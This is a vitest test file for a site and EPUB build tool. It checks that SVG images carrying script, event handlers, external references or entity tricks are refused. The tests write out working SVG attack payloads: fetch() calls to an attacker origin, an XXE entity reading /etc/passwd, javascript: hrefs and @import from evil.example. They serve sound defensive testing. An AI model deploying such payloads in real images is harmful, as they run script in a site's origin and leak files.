import { describe, expect, it } from 'vitest';
import { type Attack, buildAttack, plant } from './attack.ts';
import { expectRefused, onEachAttack } from './refused.ts';
import { edit } from '../helpers.ts';
import { svgProblems } from '../../src/pipeline/svg-check.ts';
import { entryFacts } from '../../src/output/epub/entry-facts.ts';

/**
 * Issue 11, item 6: an SVG image is a document when opened on its own, so one with a script would run in
 * the site's origin (and in a reader). It is refused at the Markdown image that links it, naming what it
 * carries; nothing is published.
 */
let attack: Attack;
onEachAttack((fresh) => (attack = fresh));

const chapter = 'content/ja/02-second.md';

describe('an SVG image with script', () => {
  it('is refused at its Markdown image, with nothing published or fetched', async () => {
    await plant(
      attack.root,
      'content/images/evil.svg',
      `<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('${attack.origin}/onload')">\n<script>fetch('${attack.origin}/script')</script>\n<image href="${attack.origin}/pixel.png" width="1" height="1"/>\n</svg>\n`,
    );
    await edit(attack.root, chapter, '../images/diagram.png', '../images/evil.svg');
    const result = await buildAttack(attack, ['--format', 'site,epub']);
    await expectRefused(attack, result, [
      `${chapter}:9:1-9:27: error: SVG image \`../images/evil.svg\` has an event handler \`onload\` on <svg> (line 1), <script> (line 2), a reference to \`${attack.origin}/pixel.png\` in \`href\` of <image> (line 3); an image may carry no script, event handler or reference to another file or host: remove them, or export it as PNG [unsafe-image]`,
    ]);
  });

  it('is refused when the script hides in a namespace, an entity, a style sheet or an animation', () => {
    const problems = (svg: string) => svgProblems(svg).map((problem) => `${problem.line}: ${problem.reason}`);
    expect(problems('<svg xmlns="http://www.w3.org/2000/svg"><h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>')).toEqual(['1: <h:script>']);
    expect(problems('<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<svg>&e;</svg>')).toEqual(['1: a DTD with its own declarations']);
    expect(problems('<svg>\n<style>@import "//evil.example/x.css";</style></svg>')).toEqual(['2: @import `//evil.example/x.css` in <style>']);
    expect(problems('<svg><a><set attributeName="href" to="javascript:alert(1)"/></a></svg>')).toEqual(['1: <set> that rewrites `href`']);
    expect(problems('<svg><rect style="fill:url(HTTPS://evil.example/#g)"/></svg>')).toEqual(['1: a reference to `HTTPS://evil.example/#g` in `style` of <rect>']);
    expect(problems('<svg><foreignObject><div/></foreignObject></svg>')).toEqual(['1: <foreignObject>']);
    expect(problems('<?xml-stylesheet href="x.css"?><svg/>')).toEqual(['1: a processing instruction `<?xml-stylesheet href="x.css"?>`']);
  });

  it('passes when it is only a picture: shapes, gradients by #fragment, an embedded PNG', () => {
    expect(
      svgProblems('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><defs><linearGradient id="g"/></defs><rect fill="url(#g)" style="stroke:red"/><use xlink:href="#g"/><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'),
    ).toEqual([]);
  });

  it('passes with an SVG 1.1 DOCTYPE and a font embedded as a data: URL, as drawing programs write them; other data: stays refused', () => {
    const drawn = '<?xml version="1.0" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"><defs><style>\n@font-face { font-family: Virgil; src: url(data:font/woff2;base64,d09GMgABAAAAABFkAA8AAAAAI); }\n</style></defs><text font-family="Virgil">x</text></svg>';
    expect(svgProblems(drawn)).toEqual([]);
    const html = `data:text/html;base64,${'PHNjcmlwdD4'.repeat(20)}`;
    expect(svgProblems(`<svg><style>\nrect { fill: url(${html}); }</style></svg>`).map((problem) => problem.reason)).toEqual([`url() \`${html.slice(0, 60)}…\` in <style>`]);
  });

  it('is refused by the EPUB check too, should one reach a package another way', () => {
    const facts = entryFacts('OEBPS/images/x.svg', '<svg xmlns="http://www.w3.org/2000/svg">\n<script>alert(1)</script></svg>', { keepText: false });
    expect(facts.foreign).toEqual(['<script> (line 2)']);
  });
});
